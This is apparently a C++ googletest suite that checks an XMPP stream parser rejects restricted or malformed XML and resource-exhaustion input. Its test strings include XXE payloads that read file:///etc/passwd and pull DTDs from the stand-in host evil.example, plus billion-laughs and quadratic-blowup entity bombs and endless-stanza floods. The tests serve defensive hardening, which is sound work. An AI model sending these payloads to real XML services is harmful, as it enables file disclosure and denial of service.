// Tests that the stream parser rejects restricted XML, malformed input and resource exhaustion.
#include <gtest/gtest.h>
#include <sys/resource.h>

#include <fstream>
#include <optional>
#include <string>
#include <string_view>

#include "stanza/xml_stream.hpp"

namespace djabberd::xml {
namespace {

struct error_catcher : stream_parser::handler {
  std::optional<stream_error> error;
  std::string text;
  int errors = 0;
  int stanzas = 0;
  bool opened = false;
  void on_stream_open(const stream_header&) override { opened = true; }
  bool on_stanza(element_ptr) override {
    ++stanzas;
    return true;
  }
  void on_stream_close() override {}
  void on_error(stream_error c, std::string t) override {
    ++errors;
    error = c;
    text = std::move(t);
  }
};

const std::string header =
    "<stream:stream xmlns='jabber:client' xmlns:stream='http://etherx.jabber.org/streams' "
    "to='example.com' version='1.0'>";

// Feeds `input` in one chunk and, separately, byte by byte; both must fail with `expected`.
void expect_error(const std::string& input, stream_error expected) {
  for (bool bytewise : {false, true}) {
    error_catcher h;
    stream_parser p(h, {});
    if (bytewise) {
      for (char c : input) ASSERT_EQ(p.feed(&c, 1), 1u);
    } else {
      ASSERT_EQ(p.feed(input.data(), input.size()), input.size());
    }
    ASSERT_TRUE(h.error.has_value()) << (bytewise ? "bytewise: " : "") << input;
    EXPECT_EQ(condition_name(*h.error), condition_name(expected))
        << (bytewise ? "bytewise: " : "") << input << " -> " << h.text;
    EXPECT_EQ(h.errors, 1);
    EXPECT_TRUE(p.failed());
  }
}

// Peak resident set size tracking. Resetting the high-water mark through /proc/self/clear_refs
// makes the measurement independent of earlier tests; without it, fall back to getrusage.
struct rss_probe {
  long before_kb = 0;
  bool exact = false;

  static long status_kb(std::string_view key) {
    std::ifstream f("/proc/self/status");
    std::string line;
    while (std::getline(f, line)) {
      if (line.rfind(key, 0) == 0) return std::stol(line.substr(key.size()));
    }
    return -1;
  }
  static long maxrss_kb() {
    rusage u{};
    getrusage(RUSAGE_SELF, &u);
    return u.ru_maxrss;
  }

  rss_probe() {
    std::ofstream f("/proc/self/clear_refs");
    f << "5";
    f.flush();
    exact = f.good() && status_kb("VmHWM:") >= 0;
    before_kb = exact ? status_kb("VmRSS:") : maxrss_kb();
  }
  long growth_kb() const { return (exact ? status_kb("VmHWM:") : maxrss_kb()) - before_kb; }
};

TEST(StanzaParserAttack, Doctype) {
  expect_error("<?xml version='1.0'?><!DOCTYPE stream:stream>" + header,
               stream_error::restricted_xml);
  expect_error("<!DOCTYPE stream SYSTEM 'http://evil.example/x.dtd'>" + header,
               stream_error::restricted_xml);
}

TEST(StanzaParserAttack, InternalEntityDeclaration) {
  expect_error("<?xml version='1.0'?><!DOCTYPE stream:stream [<!ENTITY e 'boom'>]>" + header +
                   "<message>&e;</message>",
               stream_error::restricted_xml);
}

TEST(StanzaParserAttack, ExternalEntity) {
  expect_error("<!DOCTYPE stream:stream [<!ENTITY xxe SYSTEM 'file:///etc/passwd'>]>" + header +
                   "<message><body>&xxe;</body></message>",
               stream_error::restricted_xml);
  expect_error(
      "<!DOCTYPE stream:stream [<!ENTITY % p SYSTEM 'http://evil.example/p'> %p;]>" + header,
      stream_error::restricted_xml);
}

TEST(StanzaParserAttack, BillionLaughs) {
  std::string doc = "<?xml version='1.0'?><!DOCTYPE stream:stream [<!ENTITY lol0 'lol'>";
  for (int i = 1; i < 10; ++i) {
    doc += "<!ENTITY lol" + std::to_string(i) + " '";
    for (int j = 0; j < 10; ++j) doc += "&lol" + std::to_string(i - 1) + ";";
    doc += "'>";
  }
  doc += "]>" + header + "<message><body>&lol9;</body></message>";
  rss_probe rss;
  expect_error(doc, stream_error::restricted_xml);
  EXPECT_LT(rss.growth_kb(), 4096) << (rss.exact ? "VmHWM" : "ru_maxrss");
}

TEST(StanzaParserAttack, QuadraticBlowup) {
  std::string doc = "<!DOCTYPE stream:stream [<!ENTITY a '" + std::string(50000, 'a') + "'>]>" +
                    header + "<message><body>";
  for (int i = 0; i < 4000; ++i) doc += "&a;";
  doc += "</body></message>";
  rss_probe rss;
  expect_error(doc, stream_error::restricted_xml);
  EXPECT_LT(rss.growth_kb(), 4096) << (rss.exact ? "VmHWM" : "ru_maxrss");
}

TEST(StanzaParserAttack, Comment) {
  expect_error("<!-- hi -->" + header, stream_error::restricted_xml);
  expect_error(header + "<!-- between stanzas -->", stream_error::restricted_xml);
  expect_error(header + "<message><!-- inside --></message>", stream_error::restricted_xml);
}

TEST(StanzaParserAttack, ProcessingInstruction) {
  expect_error("<?foo bar?>" + header, stream_error::restricted_xml);
  expect_error(header + "<message><?foo bar?></message>", stream_error::restricted_xml);
  expect_error(header + "<?xml version='1.0'?>", stream_error::restricted_xml);
}

TEST(StanzaParserAttack, UndefinedEntity) {
  expect_error(header + "<message><body>&nbsp;</body></message>", stream_error::restricted_xml);
  expect_error(header + "<message to='&foo;'/>", stream_error::restricted_xml);
}

TEST(StanzaParserAttack, MalformedXml) {
  expect_error(header + "<message <body>hi</body></message>", stream_error::not_well_formed);
  expect_error(header + "<message><body>hi</message>", stream_error::not_well_formed);
  expect_error(header + "<a></b>", stream_error::not_well_formed);
  expect_error(header + "<a x='1' x='2'/>", stream_error::not_well_formed);
  expect_error(header + "<a>&#0;</a>", stream_error::not_well_formed);
  expect_error(header + "<a>\x01</a>", stream_error::not_well_formed);
  expect_error(header + std::string("<a>\0</a>", 8), stream_error::not_well_formed);
  expect_error(header + "<a>]]></a>", stream_error::not_well_formed);
  expect_error("<stream:stream xmlns:stream='http://etherx.jabber.org/streams'></stream>",
               stream_error::not_well_formed);
}

TEST(StanzaParserAttack, WrongRoot) {
  expect_error("<stream:features xmlns:stream='http://etherx.jabber.org/streams'>",
               stream_error::bad_format);
  expect_error("<stream:stream xmlns:stream='urn:wrong' xmlns='jabber:client'>",
               stream_error::invalid_namespace);
  expect_error("<stream xmlns='jabber:client'>", stream_error::invalid_namespace);
  expect_error("<html><body/></html>", stream_error::invalid_namespace);
}

TEST(StanzaParserAttack, InvalidUtf8) {
  expect_error(header + "<a>\xC3\x28</a>", stream_error::unsupported_encoding);      // bad trail
  expect_error(header + "<a>\xC0\xAF</a>", stream_error::unsupported_encoding);      // overlong
  expect_error(header + "<a>\xED\xA0\x80</a>", stream_error::unsupported_encoding);  // surrogate
  expect_error(header + "<a>\xF4\x90\x80\x80</a>", stream_error::unsupported_encoding);
  expect_error(header + "<a>\x80</a>", stream_error::unsupported_encoding);
  expect_error(header + "<a>\xFF</a>", stream_error::unsupported_encoding);
  expect_error(header + "<a x='\xE2\x98'/>", stream_error::unsupported_encoding);
  expect_error(header + "<\xE2\x98/>", stream_error::unsupported_encoding);
  expect_error(header + "<a>ok \xF0\x9F\x98 </a>", stream_error::unsupported_encoding);
  expect_error(header + "<a><![CDATA[\xE0\x80\x80]]></a>", stream_error::unsupported_encoding);
  expect_error("<stream:stream xmlns:stream='http://etherx.jabber.org/streams' to='\xFE'>",
               stream_error::unsupported_encoding);
  // A control character before the bad UTF-8 is the first error.
  expect_error(header + "<a>\x01</a><b>\xC3\x28</b>", stream_error::not_well_formed);
}

TEST(StanzaParserAttack, ForeignEncoding) {
  expect_error("<?xml version='1.0' encoding='ISO-8859-1'?>" + header,
               stream_error::unsupported_encoding);
  expect_error("<?xml version='1.0' encoding='UTF-16'?>" + header,
               stream_error::unsupported_encoding);
}

TEST(StanzaParserAttack, TooDeep) {
  std::string doc = header;
  for (int i = 0; i < 33; ++i) doc += "<a>";
  expect_error(doc, stream_error::policy_violation);
}

TEST(StanzaParserAttack, TooManyAttributes) {
  std::string doc = header + "<message";
  for (int i = 0; i < 65; ++i) doc += " a" + std::to_string(i) + "='v'";
  expect_error(doc + "/>", stream_error::policy_violation);
  doc = header + "<message";  // namespace declarations count as well
  for (int i = 0; i < 65; ++i)
    doc += " xmlns:p" + std::to_string(i) + "='urn:" + std::to_string(i) + "'";
  expect_error(doc + "/>", stream_error::policy_violation);
}

TEST(StanzaParserAttack, StanzaOverTheByteLimit) {
  expect_error(header + "<message><body>" + std::string(300000, 'x') + "</body></message>",
               stream_error::policy_violation);
  // Whitespace inside a stanza counts.
  expect_error(header + "<message>" + std::string(300000, ' ') + "</message>",
               stream_error::policy_violation);
  // So does the prolog before the stream header.
  expect_error("<?xml version='1.0'                " + std::string(300000, ' ') + "?>",
               stream_error::policy_violation);
}

// Feeds an unterminated construct in 1 KiB chunks up to 10 MB; it must fail once the limit is
// crossed, without buffering the rest.
void expect_endless_rejected(const std::string& prefix, char filler) {
  error_catcher h;
  stream_limits limits;
  stream_parser p(h, limits);
  rss_probe rss;
  ASSERT_EQ(p.feed(prefix.data(), prefix.size()), prefix.size());
  std::string chunk(1024, filler);
  std::size_t fed = 0;
  while (fed < 10 * 1024 * 1024 && !p.failed()) {
    ASSERT_EQ(p.feed(chunk.data(), chunk.size()), chunk.size());
    fed += chunk.size();
  }
  ASSERT_TRUE(h.error.has_value());
  EXPECT_EQ(*h.error, stream_error::policy_violation);
  EXPECT_LE(fed, limits.max_stanza_bytes + chunk.size());
  EXPECT_GE(fed + prefix.size(), limits.max_stanza_bytes);
  EXPECT_LT(rss.growth_kb(), 8192) << (rss.exact ? "VmHWM" : "ru_maxrss");
}

TEST(StanzaParserAttack, EndlessAttributeValue) {
  expect_endless_rejected(header + "<message to='", 'a');
}

TEST(StanzaParserAttack, EndlessStartTagName) {
  expect_endless_rejected(header + "<m", 'e');
}

TEST(StanzaParserAttack, EndlessText) {
  expect_endless_rejected(header + "<message><body>", 'b');
}

TEST(StanzaParserAttack, EndlessStreamHeader) {
  expect_endless_rejected("<stream:stream xmlns:stream='http://etherx.jabber.org/streams' to='",
                          'x');
}

TEST(StanzaParserAttack, TextAtStreamLevel) {
  expect_error(header + "hello", stream_error::bad_format);
  expect_error(header + "<presence/>  x  <presence/>", stream_error::bad_format);
  expect_error(header + "&amp;", stream_error::bad_format);
  expect_error(header + "<![CDATA[x]]>", stream_error::bad_format);
}

}  // namespace
}  // namespace djabberd::xml
